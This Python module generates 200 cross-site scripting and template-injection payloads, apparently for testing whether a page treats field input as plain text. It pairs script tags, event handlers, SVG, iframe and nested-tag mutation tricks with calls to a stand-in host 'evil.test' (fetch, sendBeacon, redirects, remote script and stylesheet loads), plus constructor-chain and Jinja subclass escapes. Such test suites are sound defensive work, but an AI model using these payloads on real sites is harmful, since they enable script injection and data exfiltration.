"""Two hundred texts that would run a script or call out, if a page took them for more than text."""

from __future__ import annotations

from typing import Final

_CALLS: Final = (
    "ran.push(N)",
    "top['ran'].push(N)",
    "fetch('http://evil.test/N')",
    "new Image().src='http://evil.test/N'",
    "self['al'+'ert'](N)",
    "document.location='http://evil.test/N'",
    "navigator.sendBeacon('http://evil.test/N')",
    "setTimeout('ran.push(N)')",
)

_CARRIERS: Final = (
    "<script>JS</script>",
    "</script><script>JS</script>",
    "--></script><script>JS</script>",
    "<img src=x onerror=JS>",
    '"><img src=x onerror="JS">',
    '\'><svg onload="JS">',
    "<svg><script>JS</script></svg>",
    '<svg><animate onbegin="JS" attributeName=x dur=1s>',
    '<details open ontoggle="JS">',
    '<iframe srcdoc="&lt;script&gt;parent.JS&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.JS"></iframe>',
    '<body onload="JS">',
    '<video><source onerror="JS"></video>',
    '<input autofocus onfocus="JS">',
    "</textarea></title></style></noscript><img src=x onerror=JS>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></mtext></math>",
)

_OUTWARD: Final = (
    "<img src=http://evil.test/N>",
    "<link rel=stylesheet href=http://evil.test/N>",
    "<link rel=prefetch href=http://evil.test/N>",
    "<style>@import 'http://evil.test/N';</style>",
    "<style>*{background:url(http://evil.test/N)}</style>",
    "<div style=\"background:url('http://evil.test/N')\">x</div>",
    "<iframe src=http://evil.test/N></iframe>",
    "<object data=http://evil.test/N></object>",
    "<embed src=http://evil.test/N>",
    "<video src=http://evil.test/N autoplay></video>",
    "<audio src=http://evil.test/N autoplay></audio>",
    "<svg><image href=http://evil.test/N /></svg>",
    "<svg><use href=http://evil.test/N#a /></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/N'>",
    "<base href=http://evil.test/N><img src=a>",
    "<script src=http://evil.test/N></script>",
    "<script type=module>import 'http://evil.test/N'</script>",
    "<form action=http://evil.test/N><input autofocus onfocus=form.submit()></form>",
    "<picture><source srcset=http://evil.test/N><img></picture>",
    "<link rel=icon href=http://evil.test/N>",
)

_OF_CHARTS: Final = (
    "datum['constructor']['constructor']('ran.push(N)')()",
    "{{ ran.push(N) }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${ran.push(N)}`${ran.push(N)}`",
    "\\u003cimg src=x onerror=ran.push(N)\\u003e",
    "&lt;img src=x onerror=ran.push(N)&gt;",
    "javascript:ran.push(N)",
    "data:text/html,<script>ran.push(N)</script>",
    "]]><script>ran.push(N)</script>",
    '{"$schema":1,"signal":"ran.push(N)","href":"http://evil.test/N"}',
    "expr:ran.push(N);toString:() => ran.push(N)",
)


def payloads(field: int) -> list[str]:
    """Return the payloads as they are put into a field; what one runs or asks for names field and payload."""
    templates = [carrier.replace("JS", call) for call in _CALLS for carrier in _CARRIERS]
    templates += [*_OUTWARD, *_OUTWARD, *_OF_CHARTS, *_OF_CHARTS, *_OF_CHARTS, *_OF_CHARTS]
    return [one.replace("N", str(1000 * field + number)) for number, one in enumerate(templates[:200], start=1)]
